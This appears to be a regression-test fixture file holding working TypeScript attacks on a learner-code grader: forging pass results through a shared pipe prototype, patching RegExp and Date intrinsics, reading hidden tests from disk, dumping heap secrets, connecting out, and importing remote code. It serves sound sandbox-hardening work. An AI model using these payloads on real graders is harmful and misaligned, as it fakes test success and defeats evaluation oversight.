/**
 * Real attacks on the grader, one per class the security issue names, each as a submission a
 * learner could hand in. They all passed, or could have passed, against the runners before learner
 * code ran in a hardened compartment; `runner-attacks.test.ts` proves each now ends as a failure.
 * Each attack pairs its payload with a wrong answer: a pass can only come from the attack.
 */

/** Exercise 02 (semaphore bulkhead): the start file is wrong, and fails most tests. */
export const WRONG_BULKHEAD = `
export class BulkheadRejectedError extends Error {
  constructor(readonly limit: number) { super('full'); this.name = 'BulkheadRejectedError'; }
}
export class Bulkhead {
  constructor(readonly limit: number) {}
  get active(): number { return 0; }
  get available(): number { return this.limit; }
  async run<T>(fn: () => Promise<T> | T): Promise<T> { return await fn(); }
}
`;

/**
 * Class 1: forge results through a shared prototype. The Node child's IPC messages leave through a
 * pipe whose prototype (Pipe.prototype.writeUtf8String) learner code could wrap, rewriting every
 * outgoing result after the secret was attached.
 */
export const FORGE_THROUGH_PIPE = `
// stdout is a pipe too: its handle shares Pipe.prototype with the IPC channel's handle.
const proto = Object.getPrototypeOf((process as any).stdout._handle);
const write = proto.writeUtf8String;
proto.writeUtf8String = function (this: unknown, request: unknown, text: string, handle: unknown) {
  const forged = text.replace(/"status":"(failed|timed-out)"/g, '"status":"passed"');
  return write.call(this, request, forged, handle);
};
${WRONG_BULKHEAD}`;

/**
 * Class 2: an intrinsic the old realm check did not watch. With RegExp[Symbol.hasInstance] always
 * true, the harness's deepEqual compared two plain objects as RegExps, by their strings: every
 * object equalled every other.
 */
export const REGEXP_HAS_INSTANCE = `
Object.defineProperty(RegExp, Symbol.hasInstance, { value: () => true });
export function partitionPool(): Record<string, number> { return {}; }
`;

/** Class 2, another intrinsic: Date.prototype.getTime made constant, so any two Dates compare equal. */
export const DATE_GET_TIME = `
Object.defineProperty(Date.prototype, 'getTime', { value: () => 0 });
export function partitionPool(): Record<string, number> { return {}; }
`;

/** Class 3: reach Node through process.mainModule.require and read the hidden tests from disk. */
export const READ_HIDDEN_TESTS = `
const req = (process as any).mainModule.require;
const fs = req('fs');
const path = req('path');
const found: string[] = [];
const walk = (dir: string, depth: number): void => {
  if (depth > 4) return;
  for (const name of fs.readdirSync(dir)) {
    const full = path.join(dir, name);
    if (fs.statSync(full).isDirectory()) walk(full, depth + 1);
    else if (/\\.js$|\\.json$/.test(name)) { const text = fs.readFileSync(full, 'utf8'); if (text.includes('hidden')) found.push(text); }
  }
};
walk(path.join(process.cwd()), 0);
console.log('STOLEN:' + found.join('\\n').slice(0, 4000));
${WRONG_BULKHEAD}`;

/** Class 3: the heap holds every run's secret; a heap snapshot hands them over. */
export const HEAP_SNAPSHOT = `
const v8 = (process as any).mainModule.require('v8');
const stream = v8.getHeapSnapshot();
let text = '';
stream.on('data', (chunk: Buffer) => { text += chunk.toString('latin1'); });
stream.on('end', () => { const secrets = text.match(/[0-9a-f]{32}/g) ?? []; console.log('SECRETS:' + secrets.length); });
${WRONG_BULKHEAD}`;

/** Class 3: Node's permission model does not cover the network: connect out with net and fetch. */
export function networkAttack(port: number): string {
  return `
const net = (process as any).mainModule.require('net');
net.connect(${port}, '127.0.0.1').on('error', () => undefined);
void (globalThis as any).fetch?.('http://127.0.0.1:${port}/fetch').catch(() => undefined);
${WRONG_BULKHEAD}`;
}

/** Class 3/5: dynamic import, reached through the Function constructor, loads code from anywhere. */
export function dynamicImportAttack(port: number): string {
  return `
void new Function("return import('http://127.0.0.1:${port}/import.js')")().catch(() => undefined);
${WRONG_BULKHEAD}`;
}

/**
 * Class 4: break Promise.prototype.then so the run can only end by timeout, which used to replace
 * the recorded tampering (and drop "browser claimed pass").
 */
export const BREAK_PROMISE_THEN = `
Promise.prototype.then = function () { return new Promise(() => undefined); } as never;
${WRONG_BULKHEAD}`;

/**
 * Beyond the list: swallow the test's own failed expectations. A test that hands learner
 * code a function which checks something inside it throws an AssertionError through the learner's
 * code, which catches it.
 */
export const SWALLOW_CALLBACK = 'export function answer(fn: () => void): void { try { fn(); } catch { /* swallowed */ } }';

/** Beyond the list: replace a method of the virtual clock the test handed over. */
export const REPLACE_CLOCK_METHOD = `
export function watch(clock: { advance(ms: number): Promise<void> }): { fired: boolean } {
  const state = { fired: false };
  (clock as { advance: unknown }).advance = async () => { state.fired = true; };
  return state;
}
`;
